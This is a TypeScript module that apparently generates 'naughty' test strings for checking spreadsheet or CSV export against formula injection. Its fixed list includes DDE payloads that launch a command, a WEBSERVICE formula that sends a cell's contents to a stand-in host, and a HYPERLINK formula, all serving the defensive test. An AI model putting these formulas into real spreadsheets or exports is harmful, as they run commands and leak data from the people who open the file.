import { existsSync, readFileSync } from 'node:fs';
import fc from 'fast-check';

/** What a spreadsheet runs, swallows or takes for something else. */
const ours = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  "'=1",
  "''=1",
  '＝1',
  '＋1',
  '－1',
  '＠a',
  '=HYPERLINK("http://x.example","y")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://x.example/"&A1)',
  '-2+3+cmd|calc!A1',
  '=1+1";=2+2',
  'a,=1',
  'a\n=1',
  '"=1"',
  'a\r\nb',
  'a\rb',
  'say "x"',
  '""',
  '1,2',
  '1;2',
  '2026-11-20',
  '007',
  '1e5',
  'TRUE',
  ' x ',
  '',
  'end\n',
  '\nstart',
  'é ß 漢字 👩‍👩‍👧 \u202eabc',
  '\ufeffa',
  '\u0001a',
  '\u000ba',
];

const blns = new URL('../../../shared/data/eval/blns.json', import.meta.url);

/** How many strings of other people's are among them; none where that list is not on this machine. */
export const others: readonly string[] = existsSync(blns)
  ? (JSON.parse(readFileSync(blns, 'utf8')) as string[])
  : [];

const wild = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 60 }),
  fc.string({ unit: 'binary', maxLength: 20 }),
  fc.string({ unit: fc.constantFrom(...'\'"=+-@,;\r\n\t ＝a1|!'), maxLength: 12 }),
);

/**
 * Our own strings, those of a public list where it is there, and so many random ones. None holds what a
 * file in UTF-8 or a cell of a spreadsheet cannot: half a surrogate pair, or a zero.
 */
export const naughty = (random: number): string[] =>
  [...ours, ...others, ...fc.sample(wild, random)]
    .map((text) => text.toWellFormed().replaceAll('\0', '').slice(0, 280).toWellFormed())
    .map((text) => text.replaceAll('\ufffd', '?'));
